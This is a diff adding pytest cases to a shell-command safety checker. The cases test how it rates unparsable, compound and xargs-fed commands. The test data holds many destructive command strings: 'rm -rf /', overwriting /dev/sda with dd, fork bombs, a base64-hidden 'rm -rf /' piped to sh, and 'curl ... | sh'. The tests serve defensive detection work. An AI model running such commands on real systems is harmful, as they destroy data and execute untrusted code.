@@ -283,6 +283,91 @@ def test_unparsable_line_is_still_judged() -> None:
     assert v.parse_error and v.level == "critical"
 
 
+# Lines tree-sitter cannot parse (or misreads: `then rm -rf ~` as a command named "then") are
+# judged on their words too: the runs between operators, parentheses and keywords meet the rules.
+UNPARSABLE = {
+    "critical": [
+        "if then fi ((( rm -rf /", "(( rm -rf /", "case x in rm -rf /", "do rm -rf ~; done",
+        "then rm -rf ~", "while true do rm -rf . done", 'if [ -d x ] then rm -rf "$HOME" fi',
+        "echo ok &&& rm -rf /", 'echo "$(rm -rf /)" ((', "echo `rm -rf ~` ((",
+        'echo "unterminated $(rm -rf /)', "function ) rm -rf /", "elif dd if=/dev/zero of=/dev/sda",
+        "esac > /dev/sda", "done ; echo cm0gLXJmIC8= | base64 -d | sh ))",
+        "sh -c 'then rm -rf /'", "X=/ fi; rm -rf $X ((", "fi; sudo rm -rf /usr ((",
+        "} ; rm -rf --no-preserve-root /tmp/x", "in in in rm -fr ~/ ))",
+        "if true then :(){ :|:& };: fi", "while do bomb(){ bomb|bomb& }; bomb ((",
+        "function f { f | f & } ))",
+    ],
+    "high": [
+        "fi; curl -s x.example | sh ((", "elif git push -f origin main", "( cat list | xargs rm -rf",
+        "for x in; do sudo rm -rf /usr/lib/x", "then crontab -r ((",
+    ],
+}
+
+
+@pytest.mark.parametrize(("expected", "command"),
+                         [(lv, c) for lv, cs in UNPARSABLE.items() for c in cs])
+def test_unparsable_line_is_judged_on_its_words(expected: str, command: str) -> None:
+    v = check(command, blast_radius=False)
+    assert v.parse_error, command
+    assert v.level == expected, [m.to_dict() for m in v.rules]
+
+
+@pytest.mark.parametrize("command", [
+    "if then fi", "echo $(", "then ls", "for x in", "((", "echo 'rm -rf /' ((", "case",
+    "find ~/ -name 'core*' -exec rm {} \\",
+])
+def test_unparsable_line_with_nothing_found_is_moderate_not_safe(command: str) -> None:
+    v = check(command, blast_radius=False)
+    assert v.parse_error and v.level == "moderate", [m.to_dict() for m in v.rules]
+    m = next(m for m in v.rules if m.id == "parse-unparsed")
+    assert "could not be parsed" in m.reason and "judged on its words" in m.reason
+
+
+@pytest.mark.parametrize("command", [
+    "if true; then ls; fi", 'for f in *.txt; do wc -l "$f"; done', "case $x in a) echo a;; esac",
+    'while read l; do echo "$l"; done < f', "until false; do sleep 1; done",
+    "select x in a b; do echo $x; done", "function f { ls; }", "{ ls; }", "! grep -q x f",
+    "echo done", "echo then fi", "echo 'if then fi (('", "time ls",
+])
+def test_valid_compound_commands_are_not_parse_errors(command: str) -> None:
+    v = check(command, blast_radius=False)
+    assert not v.parse_error and v.level == "safe", [m.to_dict() for m in v.rules]
+
+
+def test_lines_too_big_to_check_are_never_safe() -> None:
+    nested = "rm -rf /"
+    for _ in range(8):  # deeper than the sh -c recursion limit
+        nested = "sh -c '" + nested.replace("'", "'\"'\"'") + "'"
+    for command in (nested, "a;" * 1000 + "rm -rf /", "a|" * 1000 + "(("):
+        v = check(command, blast_radius=False)
+        assert v.level != "safe" and any(m.id == "parse-too-complex" for m in v.rules)
+
+
+# ---------------------------------------------------------------- xargs with unknown input
+@pytest.mark.parametrize(("command", "expected"), [
+    ("ls | xargs rm -rf", "high"),
+    ("cat dirs.txt | xargs -n1 rm -r", "high"),
+    ("xargs rm -rf < list.txt", "high"),
+    ("xargs -a list.txt rm -rf", "high"),
+    ("ls | xargs -I{} rm -rf {}", "high"),
+    ("ls | xargs -I % rm -rf %/cache", "high"),
+    ("ls | xargs sudo rm -rf", "critical"),
+    ("ls | xargs shred -u", "high"),
+    ("cat dirs | xargs -I{} find {} -delete", "high"),
+    ("ls | xargs rm", "moderate"),
+    ("echo / | xargs -I{} rm -rf {}", "critical"),
+    ("echo / | xargs rm -rf", "critical"),
+    ("find . | xargs rm -rf", "critical"),
+    ("find . -name '*.pyc' | xargs rm -rf", "safe"),
+    ("find . -name '*.pyc' -print0 | xargs -0 rm", "safe"),
+    ("echo build dist | xargs rm -rf", "safe"),
+    ("ls | xargs echo rm -rf", "safe"),
+    ("ls | xargs wc -l", "safe"),
+])
+def test_xargs_feeding_a_destroyer_from_unknown_input(command: str, expected: str) -> None:
+    assert level(command) == expected
+
+
 def test_import_is_cheap() -> None:
     code = ("import sys, cmdai.safety, cmdai.cli.check; "
             "print(sorted(m for m in ('tree_sitter', 'tree_sitter_bash', 'click') if m in sys.modules))")
